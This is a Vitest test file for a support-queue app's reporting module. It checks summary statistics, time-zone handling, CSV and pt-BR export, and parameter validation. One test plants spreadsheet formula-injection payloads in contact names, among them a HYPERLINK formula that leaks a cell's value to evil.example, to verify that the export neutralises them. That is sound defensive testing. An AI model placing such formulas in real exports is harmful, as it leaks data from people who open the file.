// Every definition of docs/behaviour.md#reports against a fixture whose answers were computed by hand
// (test-fixtures.ts): medians of odd and even counts, p90 by linear interpolation
// (percentile_cont), empty periods, first assignments, the welcome message, half-open
// periods and time zones around midnight; and the CSV agrees with the summary.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestDatabase, type TestDatabase } from "@/test/database";
import { UserError } from "@/lib/errors";
import { parse } from "csv-parse/sync";
import { conversationsCsv, CSV_COLUMNS, csvFileName, jainIndex, parseCsvLocale, parseReportParams, reportSummary, type CsvOptions, type ReportFilter } from "./index";
import { loadFixture, P, type Fixture } from "@/test/reports-fixtures";

let t: TestDatabase;
let f: Fixture;

beforeAll(async () => {
  t = await createTestDatabase();
  f = await loadFixture(t.sql);
});
afterAll(() => t.drop());

type CsvRow = Record<(typeof CSV_COLUMNS)[number], string | number | null>;
const NUMERIC = new Set(["conversation_id", "queue_wait_seconds", "first_response_seconds", "resolution_seconds", "transfers"]);

async function csvText(filter: ReportFilter, options?: CsvOptions): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of await conversationsCsv(t.db, filter, options)) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString("utf8");
}

/** The CSV as the endpoint streams it, read back with csv-parse: "" → null, numbers as numbers. */
async function csvRows(filter: ReportFilter): Promise<CsvRow[]> {
  const [header, ...records] = parse(await csvText(filter), { skip_empty_lines: true, bom: true }) as string[][];
  expect(header).toEqual([...CSV_COLUMNS]);
  const parsed = records.map((values) => Object.fromEntries(header!.map((key, i) => [key, values[i] ?? ""])));
  return parsed.map(
    (row) => Object.fromEntries(Object.entries(row).map(([key, value]) => [key, value === "" ? null : NUMERIC.has(key) ? Number(value) : value])) as CsvRow,
  );
}

/** percentile_cont, by hand: linear interpolation between the closest ranks. */
function percentile(values: number[], q: number): number | null {
  if (values.length === 0) return null;
  const sorted = [...values].sort((a, b) => a - b);
  const position = q * (sorted.length - 1);
  const low = Math.floor(position);
  const high = Math.ceil(position);
  return sorted[low]! + (sorted[high]! - sorted[low]!) * (position - low);
}

describe("summary over the hand-computed fixture, period P (Saturday 2026-01-10, UTC)", () => {
  it("received, closed and assigned by kind, with half-open boundaries", async () => {
    const s = await reportSummary(t.db, P);
    // c1, c2, c3, c4 (23:59:59), c6, c7; c5 was created 10 s before P.
    expect(s.received).toBe(6);
    // c1, c3, c5; c6 closed exactly at `to`, which is outside.
    expect(s.closed).toBe(3);
    // c4's assignment at 00:00:10 of the next day is outside; the requeue and the closes have no assignee.
    expect(s.assigned).toEqual({ auto: 3, self: 2, manager: 1, transfer: 1 });
    const ana = s.agents.find((a) => a.agentId === f.ana)!;
    expect(ana.assigned).toEqual({ auto: 2, self: 1, manager: 0, transfer: 0 });
    expect(ana.received).toBe(3); // c1, c2, c4: Ana has them now
  });

  it("queue wait: the first event with an assignee, odd count, median and p90", async () => {
    const s = await reportSummary(t.db, P);
    // First assigned in P: c5 15 s, c1 30 s, c6 40 s, c2 120 s (its first, automatic, assignment —
    // not the take after the requeue), c3 600 s. Median 40; p90 at rank 3.6: 120 + 0.6 × 480 = 408.
    expect(s.queueWaitSeconds).toMatchObject({ median: 40, count: 5, buckets: { lt1m: 3, "1to5m": 1, "5to15m": 1, "15to60m": 0, "1to4h": 0, gt4h: 0 } });
    expect(s.queueWaitSeconds.p90).toBeCloseTo(408, 6);
  });

  it("first response: even count, buckets, and the welcome message does not count", async () => {
    const s = await reportSummary(t.db, P);
    // c1 90 s, c5 610 s, c2 1200 s, c3 3600 s; c6 only had the welcome message.
    // Median (610 + 1200) / 2 = 905; p90 at rank 2.7: 1200 + 0.7 × 2400 = 2880.
    expect(s.firstResponseSeconds.count).toBe(4);
    expect(s.firstResponseSeconds.median).toBe(905);
    expect(s.firstResponseSeconds.p90).toBeCloseTo(2880, 6);
    expect(s.firstResponseSeconds.buckets).toEqual({ lt1m: 0, "1to5m": 1, "5to15m": 1, "15to60m": 1, "1to4h": 1, gt4h: 0 });
  });

  it("resolution: closed in the period", async () => {
    const s = await reportSummary(t.db, P);
    // c5 1210 s, c1 3600 s, c3 7200 s. p90 at rank 1.8: 3600 + 0.8 × 3600 = 6480.
    expect(s.resolutionSeconds.count).toBe(3);
    expect(s.resolutionSeconds.median).toBe(3600);
    expect(s.resolutionSeconds.p90).toBeCloseTo(6480, 6);
  });

  it("fairness: Jain's index over the members online at some time, automatic groups only", async () => {
    const s = await reportSummary(t.db, P);
    // Vendas: Ana (online at `from`) got 2 automatic, Bruno (online from 01:30) got 1; Carla was never
    // online. (2 + 1)² / (2 × (4 + 1)) = 0.9. Suporte: nobody online → null. Financeiro is manual.
    expect(s.fairness.map((g) => [g.groupId, g.index, g.agents, g.autoAssigned])).toEqual([
      [f.suporte, null, 0, 0],
      [f.vendas, 0.9, 2, 3],
    ]);
    expect(jainIndex([1, 1, 1])).toBe(1);
    expect(jainIndex([3, 0, 0])).toBeCloseTo(1 / 3, 12);
  });

  it("time in status from the status history", async () => {
    const s = await reportSummary(t.db, P);
    const of = (id: number) => s.timeInStatus.find((x) => x.agentId === id);
    // Ana: online since the day before, paused at 12:00, offline at 18:00.
    expect(of(f.ana)).toMatchObject({ onlineSeconds: 12 * 3600, pausedSeconds: 6 * 3600, offlineSeconds: 6 * 3600 });
    // Bruno: offline (nothing known before), online 01:30–09:30.
    expect(of(f.bruno)).toMatchObject({ onlineSeconds: 8 * 3600, pausedSeconds: 0, offlineSeconds: 16 * 3600 });
    expect(of(f.carla)).toMatchObject({ onlineSeconds: 0, pausedSeconds: 0, offlineSeconds: 24 * 3600 });
  });

  it("load over time: open conversations per agent at every hour", async () => {
    const s = await reportSummary(t.db, P);
    expect(s.bucket).toBe("hour");
    const at = (hour: number, agentId: number) =>
      s.loadOverTime.find((p) => p.agentId === agentId && p.at === `2026-01-10T${String(hour).padStart(2, "0")}:00:00.000Z`)?.open ?? 0;
    // Ana holds c2 from 02:10 on; c1 (01:00:30–02:00) is between two samples.
    expect(at(2, f.ana)).toBe(0);
    expect(at(3, f.ana)).toBe(1);
    expect(at(23, f.ana)).toBe(1);
    // Carla: c3 from 03:20 to 05:00, c6 from 10:00:40 to midnight.
    expect(at(4, f.carla)).toBe(1);
    expect(at(5, f.carla)).toBe(0);
    expect(at(11, f.carla)).toBe(1);
    expect(s.loadOverTime).toHaveLength(21 + 1 + 13);
    expect(s.volumeOverTime).toHaveLength(24);
    expect(s.volumeOverTime.find((v) => v.at === "2026-01-10T02:00:00.000Z")).toEqual({ at: "2026-01-10T02:00:00.000Z", received: 1, closed: 1 });
  });

  it("arrivals heatmap and day boundaries follow the time zone, around midnight", async () => {
    const utc = await reportSummary(t.db, P);
    const cell = (s: typeof utc, weekday: number, hour: number) => s.heatmap.find((c) => c.weekday === weekday && c.hour === hour)!.received;
    expect(utc.heatmap).toHaveLength(168);
    expect(cell(utc, 6, 3)).toBe(1); // c3, Saturday 03:00 UTC
    expect(cell(utc, 6, 23)).toBe(1); // c4

    // Saturday in São Paulo (UTC−3) is [03:00Z, 03:00Z next day): c1 and c2 were Friday night there,
    // c3 arrived at local midnight exactly (included), c4 at 20:59:59.
    const saoPaulo = await reportSummary(t.db, { from: new Date("2026-01-10T03:00:00Z"), to: new Date("2026-01-11T03:00:00Z"), timeZone: "America/Sao_Paulo" });
    expect(saoPaulo.received).toBe(4);
    expect(cell(saoPaulo, 6, 0)).toBe(1);
    expect(cell(saoPaulo, 6, 20)).toBe(1);
    expect(cell(saoPaulo, 5, 22)).toBe(0);
    expect(saoPaulo.volumeOverTime[0]).toEqual({ at: "2026-01-10T03:00:00.000Z", received: 1, closed: 0 });
    // Daily buckets start at local midnights.
    const month = await reportSummary(t.db, { from: new Date("2026-01-01T03:00:00Z"), to: new Date("2026-01-31T03:00:00Z"), timeZone: "America/Sao_Paulo" });
    expect(month.bucket).toBe("day");
    expect(month.volumeOverTime).toHaveLength(30);
    expect(month.volumeOverTime.find((v) => v.at === "2026-01-09T03:00:00.000Z")).toMatchObject({ received: 3 }); // c1, c2, c5 on local Friday
    // Daily load samples are taken at local noon (15:00 UTC): on Saturday Ana holds c2 and Carla c6.
    expect(month.loadOverTime.every((p) => p.at.endsWith("T15:00:00.000Z"))).toBe(true);
    expect(month.loadOverTime.filter((p) => p.at === "2026-01-10T15:00:00.000Z").map((p) => [p.agentId, p.open])).toEqual(
      [[f.ana, 1], [f.carla, 1]].sort((a, b) => a[0]! - b[0]!),
    );
  });

  it("an empty period: zeros and nulls", async () => {
    const s = await reportSummary(t.db, { from: new Date("2025-03-01T00:00:00Z"), to: new Date("2025-03-02T00:00:00Z") });
    expect(s.received).toBe(0);
    expect(s.queueWaitSeconds).toMatchObject({ median: null, p90: null, count: 0 });
    expect(s.firstResponseSeconds).toMatchObject({ median: null, p90: null, count: 0 });
    expect(s.resolutionSeconds).toEqual({ median: null, p90: null, count: 0 });
    expect(s.fairness.every((g) => g.index === null)).toBe(true);
    expect(s.loadOverTime).toEqual([]);
  });

  it("filters by group and by agent", async () => {
    const suporte = await reportSummary(t.db, { ...P, groupId: f.suporte });
    expect(suporte.received).toBe(1);
    expect(suporte.assigned).toEqual({ auto: 0, self: 0, manager: 1, transfer: 0 });
    const ana = await reportSummary(t.db, { ...P, agentId: f.ana });
    // c1 30 s, c2 120 s, c5 15 s: Ana has them now.
    expect(ana.queueWaitSeconds).toMatchObject({ median: 30, count: 3 });
    expect(ana.queueWaitSeconds.p90).toBeCloseTo(102, 6); // rank 1.8: 30 + 0.8 × 90
    expect(ana.assigned).toEqual({ auto: 2, self: 1, manager: 0, transfer: 0 });
    expect(ana.agents.map((a) => a.agentId)).toEqual([f.ana]);
  });
});

describe("the CSV", () => {
  it("has one row per conversation created in the period, with its first assignment and transfers", async () => {
    const rows = await csvRows(P);
    expect(rows.map((r) => r.conversation_id)).toEqual([f.c.c1, f.c.c2, f.c.c3, f.c.c6, f.c.c7, f.c.c4]);
    const c2 = rows.find((r) => r.conversation_id === f.c.c2)!;
    expect(c2).toMatchObject({ first_assigned_at: "2026-01-10T02:02:00.000+00:00", first_assignment_kind: "auto", queue_wait_seconds: 120, transfers: 0, assignee_email: "ana@r.test" });
    expect(rows.find((r) => r.conversation_id === f.c.c3)).toMatchObject({ transfers: 1, first_assignment_kind: "self", resolution_seconds: 7200 });
    expect(rows.find((r) => r.conversation_id === f.c.c6)).toMatchObject({ first_response_at: null, first_response_seconds: null });
  });

  it("agrees with the summary: counts and medians", async () => {
    const wide = { from: new Date("2026-01-09T00:00:00Z"), to: new Date("2026-01-12T00:00:00Z") };
    const [rows, s] = await Promise.all([csvRows(wide), reportSummary(t.db, wide)]);
    const values = (key: keyof CsvRow) => rows.map((r) => r[key]).filter((v): v is number => typeof v === "number");
    expect(rows).toHaveLength(s.received);
    expect(rows.filter((r) => r.closed_at !== null)).toHaveLength(s.closed);
    expect(values("queue_wait_seconds")).toHaveLength(s.queueWaitSeconds.count);
    expect(percentile(values("queue_wait_seconds"), 0.5)).toBeCloseTo(s.queueWaitSeconds.median!, 6);
    expect(percentile(values("queue_wait_seconds"), 0.9)).toBeCloseTo(s.queueWaitSeconds.p90!, 6);
    expect(percentile(values("first_response_seconds"), 0.5)).toBeCloseTo(s.firstResponseSeconds.median!, 6);
    expect(percentile(values("resolution_seconds"), 0.5)).toBeCloseTo(s.resolutionSeconds.median!, 6);
    expect(values("transfers").reduce((a, b) => a + b, 0)).toBe(s.assigned.transfer);
  });

  it("streams text with a header and quotes what needs quoting", async () => {
    await t.sql`UPDATE contacts SET profile_name = 'Silva, "Zé"' WHERE id = (SELECT contact_id FROM conversations WHERE id = ${f.c.c7!})`;
    const text = await csvText(P);
    // UTF-8 with a byte-order mark, so that a spreadsheet reads the accents as UTF-8.
    expect([...Buffer.from(text, "utf8").subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = text.slice(1).trimEnd().split("\n");
    expect(lines[0]).toBe(
      "conversation_id,group,channel,contact_wa_id,contact_name,status,assignee_email,created_at,first_assigned_at,first_assignment_kind,first_response_at,closed_at,queue_wait_seconds,first_response_seconds,resolution_seconds,transfers,first_response_target_met,resolution_target_met",
    );
    expect(lines).toHaveLength(7);
    expect(lines.find((l) => l.startsWith(`${f.c.c7},`))).toContain('"Silva, ""Zé"""');
    expect((await csvRows(P)).find((r) => r.conversation_id === f.c.c7)?.contact_name).toBe('Silva, "Zé"');
  });
});

describe("the CSV people open", () => {
  it("writes every text cell that a spreadsheet would run as a formula as text, whatever its column", async () => {
    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1", "-2", "@x", "\tX", "\rY"];
    const ids = [f.c.c1, f.c.c2, f.c.c3, f.c.c6, f.c.c7, f.c.c4];
    for (const [i, name] of names.entries()) {
      await t.sql`UPDATE contacts SET profile_name = ${name} WHERE id = (SELECT contact_id FROM conversations WHERE id = ${ids[i]!})`;
    }
    const [group] = await t.sql<{ id: number; name: string }[]>`SELECT g.id, g.name FROM channel_groups g JOIN conversations c ON c.group_id = g.id WHERE c.id = ${f.c.c1!}`;
    const { id: groupId, name: groupName } = group!;
    await t.sql`UPDATE channel_groups SET name = '=1+1' WHERE id = ${groupId}`;
    try {
      const rows = await csvRows(P);
      expect(ids.map((id) => rows.find((r) => r.conversation_id === id)?.contact_name)).toEqual(names.map((name) => `'${name}`));
      expect(rows.find((r) => r.conversation_id === f.c.c1)?.group).toBe("'=1+1");
      // No cell of the file begins a formula.
      const cells = parse(await csvText(P), { bom: true, relax_column_count: true }) as string[][];
      expect(cells.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect(await csvText(P)).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    } finally {
      await t.sql`UPDATE channel_groups SET name = ${groupName} WHERE id = ${groupId}`;
    }
  });

  it("in pt-BR: semicolons, a decimal comma, and times in the report's time zone with their offset", async () => {
    const [channel] = await t.sql<{ id: number }[]>`SELECT id FROM channels WHERE group_id = ${f.vendas}`;
    const [contact] = await t.sql<{ id: number }[]>`INSERT INTO contacts (wa_id, profile_name) VALUES ('5511977770002', 'João; Souza') RETURNING id`;
    const [c] = await t.sql<{ id: number }[]>`
      INSERT INTO conversations (contact_id, channel_id, group_id, status, assignee_id, queued_at, created_at)
      VALUES (${contact!.id}, ${channel!.id}, ${f.vendas}, 'assigned', ${f.ana}, '2026-04-01T10:00:00Z', '2026-04-01T10:00:00Z') RETURNING id`;
    await t.sql`INSERT INTO assignment_events (conversation_id, group_id, kind, to_user_id, created_at) VALUES (${c!.id}, ${f.vendas}, 'auto', ${f.ana}, '2026-04-01T10:01:30.5Z')`;
    // The local day of São Paulo (UTC−3).
    const day = { from: new Date("2026-04-01T03:00:00Z"), to: new Date("2026-04-02T03:00:00Z"), timeZone: "America/Sao_Paulo" };
    const text = await csvText(day, { locale: "pt-BR" });
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const [header, row, ...rest] = text.slice(1).trimEnd().split("\n");
    expect(rest).toEqual([]);
    expect(header).toBe(CSV_COLUMNS.join(";"));
    const cells = (parse(text, { bom: true, delimiter: ";" }) as string[][])[1]!;
    const cell = (column: (typeof CSV_COLUMNS)[number]) => cells[CSV_COLUMNS.indexOf(column)];
    expect(cell("contact_name")).toBe("João; Souza");
    expect(row).toContain('"João; Souza"');
    expect(cell("created_at")).toBe("2026-04-01T07:00:00.000-03:00");
    expect(cell("first_assigned_at")).toBe("2026-04-01T07:01:30.500-03:00");
    expect(cell("queue_wait_seconds")).toBe("90,5");
    // In English, the same row with commas and a decimal point; UTC unless a zone is asked for.
    const english = parse(await csvText({ from: day.from, to: day.to }), { bom: true }) as string[][];
    expect(english[1]![CSV_COLUMNS.indexOf("queue_wait_seconds")]).toBe("90.5");
    expect(english[1]![CSV_COLUMNS.indexOf("created_at")]).toBe("2026-04-01T10:00:00.000+00:00");
  });

  it("refuses a language it does not write", () => {
    expect(parseCsvLocale({ locale: "pt-BR" })).toBe("pt-BR");
    expect(parseCsvLocale({})).toBe("en");
    expect(() => parseCsvLocale({ locale: "fr" })).toThrow(expect.objectContaining({ code: "invalid_input", fields: { locale: "reports.invalid.locale" } }));
  });

  it("is named after the period as the user chose it, in their time zone", () => {
    const saoPaulo = "America/Sao_Paulo";
    const week = { from: new Date("2026-01-10T03:00:00Z"), to: new Date("2026-01-17T03:00:00Z"), timeZone: saoPaulo };
    expect(csvFileName(week)).toBe("fila-conversations-2026-01-10-to-2026-01-16.csv");
    expect(csvFileName({ ...week, to: new Date("2026-01-11T03:00:00Z") })).toBe("fila-conversations-2026-01-10.csv");
    expect(csvFileName({ from: new Date("2026-01-10T12:30:00Z"), to: new Date("2026-01-10T20:00:00Z"), timeZone: saoPaulo })).toBe(
      "fila-conversations-2026-01-10T09h30-to-2026-01-10T17h00.csv",
    );
    expect(csvFileName({ from: new Date("2026-01-10T00:00:00Z"), to: new Date("2026-01-12T00:00:00Z") })).toBe("fila-conversations-2026-01-10-to-2026-01-11.csv");
  });
});

describe("a late event", () => {
  it("is stored and changes the figures at once: first assignment and spans are kept in the event's own transaction", async () => {
    const day = { from: new Date("2026-03-05T00:00:00Z"), to: new Date("2026-03-06T00:00:00Z") };
    const [channel] = await t.sql<{ id: number }[]>`SELECT id FROM channels WHERE group_id = ${f.vendas}`;
    const [contact] = await t.sql<{ id: number }[]>`INSERT INTO contacts (wa_id, profile_name) VALUES ('5511977770001', 'Late') RETURNING id`;
    const [c] = await t.sql<{ id: number }[]>`
      INSERT INTO conversations (contact_id, channel_id, group_id, status, assignee_id, queued_at, created_at)
      VALUES (${contact!.id}, ${channel!.id}, ${f.vendas}, 'assigned', ${f.bruno}, '2026-03-05T10:00:00Z', '2026-03-05T10:00:00Z') RETURNING id`;
    const event = (kind: string, to: number, at: string) =>
      t.sql`INSERT INTO assignment_events (conversation_id, group_id, kind, to_user_id, created_at) VALUES (${c!.id}, ${f.vendas}, ${kind}, ${to}, ${at})`;
    await event("auto", f.bruno, "2026-03-05T10:05:00Z");
    expect((await reportSummary(t.db, day)).queueWaitSeconds).toMatchObject({ median: 300, count: 1 });
    // Recorded after the automatic one, though it happened before it.
    await event("manager", f.ana, "2026-03-05T10:01:00Z");
    const s = await reportSummary(t.db, day);
    expect(s.queueWaitSeconds).toMatchObject({ median: 60, p90: 60, count: 1 });
    expect(s.assigned).toEqual({ auto: 1, self: 0, manager: 1, transfer: 0 });
    expect((await csvRows(day)).map((r) => [r.first_assigned_at, r.first_assignment_kind, r.queue_wait_seconds])).toEqual([["2026-03-05T10:01:00.000+00:00", "manager", 60]]);
    // Load over time: Ana held it from 10:01 to 10:05, then Bruno (the span the late event fell in is split).
    const spans = await t.sql<{ userId: number; startedAt: string; endedAt: string | null }[]>`
      SELECT user_id AS "userId", extract(epoch FROM started_at)::float8 AS "startedAt", extract(epoch FROM ended_at)::float8 AS "endedAt"
        FROM assignment_spans WHERE conversation_id = ${c!.id} ORDER BY started_at`;
    const iso = (epoch: string | number | null) => (epoch === null ? null : new Date(Number(epoch) * 1000).toISOString());
    expect(spans.map((x) => [x.userId, iso(x.startedAt), iso(x.endedAt)])).toEqual([
      [f.ana, "2026-03-05T10:01:00.000Z", "2026-03-05T10:05:00.000Z"],
      [f.bruno, "2026-03-05T10:05:00.000Z", null],
    ]);
  });
});

describe("parameters", () => {
  const parse = (query: string) => parseReportParams(t.db, new URLSearchParams(query));
  const refusal = async (query: string) => {
    const error = await parse(query).then(() => null, (e: unknown) => e);
    expect(error).toBeInstanceOf(UserError);
    return error as UserError;
  };

  it("accepts instants, ids and a time zone", async () => {
    const filter = await parse(`from=2026-01-10T00:00:00Z&to=2026-01-11T00:00:00-03:00&groupId=${f.vendas}&agentId=${f.ana}&tz=America/Sao_Paulo`);
    expect(filter).toEqual({ from: P.from, to: new Date("2026-01-11T03:00:00Z"), groupId: f.vendas, agentId: f.ana, timeZone: "America/Sao_Paulo" });
  });

  it("refuses with a clear message", async () => {
    expect((await refusal("from=2026-01-11T00:00:00Z&to=2026-01-10T00:00:00Z")).message).toContain("from must be before to");
    expect((await refusal("from=2025-01-01T00:00:00Z&to=2026-01-10T00:00:00Z")).message).toContain("at most 366 days");
    expect((await refusal("from=yesterday&to=2026-01-10T00:00:00Z")).fields).toHaveProperty("from");
    expect((await refusal("to=2026-01-10T00:00:00Z")).fields).toHaveProperty("from");
    expect((await refusal("from=2026-01-09T00:00:00Z&to=2026-01-10T00:00:00Z&groupId=999999")).message).toContain("no group");
    expect((await refusal("from=2026-01-09T00:00:00Z&to=2026-01-10T00:00:00Z&agentId=999999")).message).toContain("no user");
    expect((await refusal("from=2026-01-09T00:00:00Z&to=2026-01-10T00:00:00Z&tz=Mars/Olympus")).fields).toHaveProperty("tz");
    expect((await refusal("from=2026-01-09T00:00:00Z&to=2026-01-10T00:00:00Z&groupId=abc")).fields).toHaveProperty("groupId");
  });
});
